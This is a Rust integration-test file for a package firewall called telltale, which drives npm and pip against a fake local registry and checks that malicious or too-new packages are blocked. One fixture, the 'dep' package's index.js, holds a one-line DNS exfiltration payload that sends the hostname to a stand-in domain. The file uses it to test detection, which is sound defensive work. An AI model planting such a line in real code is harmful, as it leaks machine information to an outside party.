//! `telltale npm …` and `telltale pip …` drive the real package managers through the firewall
//! against a registry on loopback (no network). Install scripts are never run
//! (`--ignore-scripts`; pip only downloads), so nothing from the corpus executes.
//!
//! npm and pip come from `scripts/install-test-deps.sh`; without them these tests fail,
//! saying so.

mod common;

use common::telltale;
use std::path::{Path, PathBuf};
use std::process::Output;
use telltale_registry::testing::{sri, FakeRegistry};

fn corpus(rel: &str) -> Vec<u8> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/corpus")
        .join(rel);
    std::fs::read(&p).unwrap_or_else(|e| panic!("corpus file {}: {e}", p.display()))
}

/// A project folder with an empty package.json, a policy, and a store of its own.
struct Project {
    dir: tempfile::TempDir,
}

impl Project {
    fn new(policy: &str) -> Project {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("package.json"),
            r#"{"name":"app","version":"1.0.0","private":true}"#,
        )
        .unwrap();
        std::fs::write(dir.path().join("telltale.toml"), policy).unwrap();
        Project { dir }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn store(&self) -> PathBuf {
        self.path().join("verdicts.sqlite")
    }

    /// `telltale <manager> [extra] ARGS` against `upstream`.
    fn run(&self, manager: &str, upstream: &FakeRegistry, extra: &[&str], args: &[&str]) -> Output {
        let home = self.path().join("home");
        std::fs::create_dir_all(&home).unwrap();
        telltale()
            .current_dir(self.path())
            .arg(manager)
            .arg("--store")
            .arg(self.store())
            .args(["--registry", &upstream.url])
            .args(["--pypi-index", &format!("{}simple/", upstream.url)])
            .args(extra)
            .args(args)
            // Nothing of the user's: no .npmrc, no pip config, no caches.
            .env("HOME", &home)
            .env("npm_config_userconfig", home.join(".npmrc"))
            .env("PIP_CONFIG_FILE", "/dev/null")
            .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
            .env("TELLTALE_CACHE_DIR", self.path().join("cache"))
            .output()
            .expect("run telltale")
    }
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn npm_registry() -> FakeRegistry {
    FakeRegistry::new(
        &[
            (
                "es5-ext",
                "0.10.64",
                &corpus("npm/es5-ext-0.10.64.tgz"),
                serde_json::json!({}),
            ),
            (
                "lodash",
                "4.17.21",
                &corpus("npm/lodash-4.17.21.tgz"),
                serde_json::json!({}),
            ),
            (
                "electorn",
                "1.0.1",
                &corpus("samples/npm/electorn-1.0.1.tgz"),
                serde_json::json!({}),
            ),
        ],
        &sri,
    )
}

/// An npm tarball of `name@1.0.0` with these files under `package/`.
fn tarball(name: &str, files: &[(&str, &str)]) -> Vec<u8> {
    tarball_of(name, "1.0.0", files)
}

fn tarball_of(name: &str, version: &str, files: &[(&str, &str)]) -> Vec<u8> {
    let manifest = format!(r#"{{"name":"{name}","version":"{version}","main":"index.js"}}"#);
    let all: Vec<(&str, &str)> = std::iter::once(("package.json", manifest.as_str()))
        .chain(files.iter().copied())
        .collect();
    common::npm_package(&all)
}

fn locked_integrity(project: &Path, name: &str) -> String {
    let lock: serde_json::Value =
        serde_json::from_slice(&std::fs::read(project.join("package-lock.json")).unwrap()).unwrap();
    lock["packages"][format!("node_modules/{name}")]["integrity"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

#[test]
fn npm_gets_region_code_refused_with_the_reason_and_lodash_unchanged() {
    let reg = npm_registry();
    let p = Project::new("[deny]\ncategories = [\"region\"]\n");
    let out = p.run(
        "npm",
        &reg,
        &[],
        &["install", "--ignore-scripts", "es5-ext@0.10.64"],
    );
    let err = stderr(&out);
    assert_ne!(out.status.code(), Some(0), "{err}");
    // npm itself prints the firewall's reason with the 403.
    assert!(
        err.contains("403")
            && err.contains("blocked by telltale: es5-ext@0.10.64: TT201 region-conditional"),
        "{err}"
    );
    assert!(err.contains("denied: category region ("), "{err}");
    assert!(err.contains("telltale.toml:2))"), "{err}");
    assert_eq!(
        err.matches("- blocked by telltale").count(),
        1,
        "the reason once in npm's line: {err}"
    );
    assert!(
        err.contains("telltale firewall: 0 allowed, 0 warned, 1 blocked"),
        "{err}"
    );
    assert!(!p.path().join("node_modules/es5-ext").exists());

    // lodash through the firewall locks the integrity it has without it.
    let out = p.run(
        "npm",
        &reg,
        &[],
        &["install", "--ignore-scripts", "lodash@4.17.21"],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(stderr(&out).contains("ALLOW npm lodash@4.17.21"));
    let through = locked_integrity(p.path(), "lodash");
    let plain = Project::new("");
    let home = plain.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let direct = std::process::Command::new("npm")
        .current_dir(plain.path())
        .args([
            "install",
            "--ignore-scripts",
            "--no-audit",
            "lodash@4.17.21",
        ])
        .env("HOME", &home)
        .env("npm_config_userconfig", home.join(".npmrc"))
        .env("npm_config_registry", &reg.url)
        .env("npm_config_cache", plain.path().join("npm-cache"))
        .output()
        .expect("npm");
    assert_eq!(direct.status.code(), Some(0), "{}", stderr(&direct));
    assert_eq!(through, locked_integrity(plain.path(), "lodash"));
    assert_eq!(through, sri(&corpus("npm/lodash-4.17.21.tgz")));
    assert_eq!(
        std::fs::read(p.path().join("node_modules/lodash/lodash.js")).unwrap(),
        std::fs::read(plain.path().join("node_modules/lodash/lodash.js")).unwrap()
    );
}

#[test]
fn an_install_time_exfiltration_sample_is_refused_by_the_default_policy() {
    let reg = npm_registry();
    let p = Project::new("");
    let out = p.run(
        "npm",
        &reg,
        &[],
        &["install", "--ignore-scripts", "electorn@1.0.1"],
    );
    let err = stderr(&out);
    assert_ne!(out.status.code(), Some(0), "{err}");
    assert!(
        err.contains("blocked by telltale: electorn@1.0.1:"),
        "{err}"
    );
    assert!(err.contains("at or above fail-on high (default)"), "{err}");
    assert!(!p.path().join("node_modules/electorn").exists());
}

#[test]
fn warn_mode_installs_and_reports_and_a_verdict_is_reused() {
    let reg = npm_registry();
    let p = Project::new("[deny]\ncategories = [\"region\"]\n[firewall]\nmode = \"warn\"\n");
    let out = p.run(
        "npm",
        &reg,
        &[],
        &["install", "--ignore-scripts", "es5-ext@0.10.64"],
    );
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert!(p.path().join("node_modules/es5-ext/package.json").is_file());
    assert!(
        err.contains("WARN  npm es5-ext@0.10.64: would block: TT201 region-conditional"),
        "{err}"
    );
    assert!(err.contains("0 allowed, 1 warned, 0 blocked"), "{err}");
    assert!(!err.contains("(cached verdict)"), "{err}");

    // Again, from a clean tree: the stored verdict is used, no scan.
    std::fs::remove_dir_all(p.path().join("node_modules")).unwrap();
    std::fs::remove_file(p.path().join("package-lock.json")).unwrap();
    let out = p.run(
        "npm",
        &reg,
        &["--dry-run"],
        &["install", "--ignore-scripts", "es5-ext@0.10.64"],
    );
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert!(
        err.contains("es5-ext@0.10.64 (cached verdict): would block:"),
        "{err}"
    );
}

#[test]
fn pip_gets_a_malicious_sdist_refused_with_the_reason() {
    use sha2::Digest;
    let sdist = corpus("samples/pypi/antchain_sdk_acc-1.0.0.tar.gz");
    let hash: String = sha2::Sha256::digest(&sdist)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let page = format!(
        "<!DOCTYPE html><html><body><a href=\"/files/antchain_sdk_acc-1.0.0.tar.gz#sha256={hash}\">antchain_sdk_acc-1.0.0.tar.gz</a></body></html>"
    );
    let reg = FakeRegistry::with_routes(vec![
        ("/simple/antchain-sdk-acc/".into(), page.into_bytes()),
        ("/files/antchain_sdk_acc-1.0.0.tar.gz".into(), sdist),
    ]);
    let p = Project::new("");
    let dest = p.path().join("downloads");
    let out = p.run(
        "pip",
        &reg,
        &[],
        &[
            "download",
            "--no-deps",
            "--no-build-isolation",
            "-d",
            dest.to_str().unwrap(),
            "antchain_sdk_acc==1.0.0",
        ],
    );
    let err = stderr(&out);
    assert_ne!(out.status.code(), Some(0), "{err}");
    assert!(err.contains("403"), "{err}");
    assert!(
        err.contains("blocked by telltale: antchain-sdk-acc@1.0.0"),
        "{err}"
    );
    assert!(err.contains("0 allowed, 0 warned, 1 blocked"), "{err}");
    assert!(
        !dest.join("antchain_sdk_acc-1.0.0.tar.gz").exists(),
        "nothing was handed to pip"
    );
}

#[test]
fn an_unreachable_registry_fails_the_install_cleanly() {
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let dead = FakeRegistry::with_routes(vec![]);
    let p = Project::new("");
    let started = std::time::Instant::now();
    let out = telltale()
        .current_dir(p.path())
        .args(["npm", "--no-store", "--upstream-timeout", "5"])
        .args(["--registry", &format!("http://127.0.0.1:{port}/")])
        .args([
            "install",
            "--ignore-scripts",
            "--fetch-retries=0",
            "lodash@4.17.21",
        ])
        .env("HOME", p.path())
        .env("npm_config_userconfig", p.path().join(".npmrc"))
        .output()
        .unwrap();
    drop(dead);
    assert_ne!(out.status.code(), Some(0));
    assert!(started.elapsed().as_secs() < 120, "it ended");
    assert!(
        stderr(&out).contains("0 allowed, 0 warned, 0 blocked"),
        "{}",
        stderr(&out)
    );
}

/// A package whose code is its dependency's (`module.exports = require('dep')`) is not
/// "incomplete" here: npm fetches the dependency through the firewall too, where it is judged.
#[test]
fn a_hand_over_to_a_dependency_is_judged_at_the_dependency() {
    let shim = tarball(
        "shim",
        &[("index.js", "module.exports = require('dep');\n")],
    );
    let dep = tarball(
        "dep",
        &[(
            "index.js",
            "require('dns').lookup(require('os').hostname() + '.x.example.top', () => {});\n",
        )],
    );
    let reg = FakeRegistry::new(
        &[
            (
                "shim",
                "1.0.0",
                &shim,
                serde_json::json!({ "dependencies": { "dep": "1.0.0" } }),
            ),
            ("dep", "1.0.0", &dep, serde_json::json!({})),
        ],
        &sri,
    );
    let p = Project::new("");
    let out = p.run(
        "npm",
        &reg,
        &[],
        &["install", "--ignore-scripts", "shim@1.0.0"],
    );
    let err = stderr(&out);
    assert_ne!(out.status.code(), Some(0), "{err}");
    assert!(
        err.contains("ALLOW npm shim@1.0.0: nothing fails the policy"),
        "{err}"
    );
    assert!(err.contains("BLOCK npm dep@1.0.0: TT102"), "{err}");
}

/// A registry that accepts connections and never answers.
fn silent_registry() -> (std::net::TcpListener, String) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/", listener.local_addr().unwrap());
    (listener, url)
}

#[test]
fn a_silent_registry_times_out_and_a_killed_firewall_leaves_nothing_half_installed() {
    let (_silent, url) = silent_registry();
    let p = Project::new("");
    let home = p.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let npm = |registry: &str| {
        std::process::Command::new("npm")
            .current_dir(p.path())
            .args([
                "install",
                "--ignore-scripts",
                "--no-audit",
                "--fetch-retries=0",
                "lodash@4.17.21",
            ])
            .env("HOME", &home)
            .env("npm_config_userconfig", home.join(".npmrc"))
            .env("npm_config_registry", registry)
            .env("npm_config_cache", p.path().join("npm-cache"))
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("npm")
    };
    // The standing firewall in front of a registry that never answers: the install waits on
    // the firewall, which is then killed; npm fails, and nothing was installed.
    let mut fw = telltale()
        .current_dir(p.path())
        .args(["firewall", "--no-store", "--listen", "127.0.0.1:0"])
        .args(["--registry", &url, "--upstream-timeout", "60"])
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = String::new();
    {
        use std::io::BufRead;
        let mut lines = std::io::BufReader::new(fw.stderr.take().unwrap());
        lines.read_line(&mut first).unwrap();
    }
    let proxy = first
        .split("npm registry ")
        .nth(1)
        .and_then(|s| s.split_whitespace().next())
        .unwrap_or_else(|| panic!("no address in {first:?}"))
        .to_string();
    let install = npm(&proxy);
    std::thread::sleep(std::time::Duration::from_secs(2));
    fw.kill().unwrap();
    fw.wait().unwrap();
    let out = install.wait_with_output().unwrap();
    assert_ne!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(!p.path().join("node_modules/lodash").exists());

    // Through the wrapper with a short upstream limit: a clean error, in bounded time.
    let started = std::time::Instant::now();
    let out = telltale()
        .current_dir(p.path())
        .args(["npm", "--no-store", "--upstream-timeout", "2"])
        .args(["--registry", &url])
        .args([
            "install",
            "--ignore-scripts",
            "--fetch-retries=0",
            "lodash@4.17.21",
        ])
        .env("HOME", &home)
        .env("npm_config_userconfig", home.join(".npmrc"))
        .output()
        .unwrap();
    assert_ne!(out.status.code(), Some(0));
    assert!(
        started.elapsed().as_secs() < 60,
        "ended in {:?}",
        started.elapsed()
    );
    assert!(stderr(&out).contains("502"), "{}", stderr(&out));
}

/// `min-release-age`: a version published an hour ago is refused, an old one served.
#[test]
fn a_version_younger_than_the_minimum_release_age_is_refused() {
    let old = tarball_of("fresh", "1.0.0", &[("index.js", "module.exports = 1;\n")]);
    let new = tarball_of("fresh", "2.0.0", &[("index.js", "module.exports = 2;\n")]);
    let an_hour_ago = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
        - 3600;
    let stamp = |secs: u64| {
        // Days to a civil date (Howard Hinnant's algorithm), enough for an RFC 3339 stamp.
        let days = (secs / 86_400) as i64;
        let z = days + 719_468;
        let era = z.div_euclid(146_097);
        let doe = z - era * 146_097;
        let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
        let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
        let mp = (5 * doy + 2) / 153;
        let d = doy - (153 * mp + 2) / 5 + 1;
        let m = if mp < 10 { mp + 3 } else { mp - 9 };
        let y = yoe + era * 400 + i64::from(m <= 2);
        let rest = secs % 86_400;
        format!(
            "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}.000Z",
            rest / 3600,
            rest / 60 % 60,
            rest % 60
        )
    };
    let doc = serde_json::json!({
        "name": "fresh",
        "dist-tags": { "latest": "2.0.0" },
        "time": { "1.0.0": "2020-01-01T00:00:00.000Z", "2.0.0": stamp(an_hour_ago) },
        "versions": {
            "1.0.0": { "name": "fresh", "version": "1.0.0", "dist": { "tarball": "/fresh/-/fresh-1.0.0.tgz", "integrity": sri(&old) } },
            "2.0.0": { "name": "fresh", "version": "2.0.0", "dist": { "tarball": "/fresh/-/fresh-2.0.0.tgz", "integrity": sri(&new) } }
        }
    });
    let reg = FakeRegistry::with_routes(vec![
        ("/fresh".into(), serde_json::to_vec(&doc).unwrap()),
        ("/fresh/-/fresh-1.0.0.tgz".into(), old),
        ("/fresh/-/fresh-2.0.0.tgz".into(), new),
    ]);
    let p = Project::new("[firewall]\nmin-release-age = \"3d\"\n");
    let out = p.run(
        "npm",
        &reg,
        &[],
        &["install", "--ignore-scripts", "fresh@2.0.0"],
    );
    let err = stderr(&out);
    assert_ne!(out.status.code(), Some(0), "{err}");
    assert!(
        err.contains("BLOCK npm fresh@2.0.0: published 1 h ago, less than the policy's min-release-age of 3 d"),
        "{err}"
    );
    let out = p.run(
        "npm",
        &reg,
        &[],
        &["install", "--ignore-scripts", "fresh@1.0.0"],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(stderr(&out).contains("ALLOW npm fresh@1.0.0"));
}
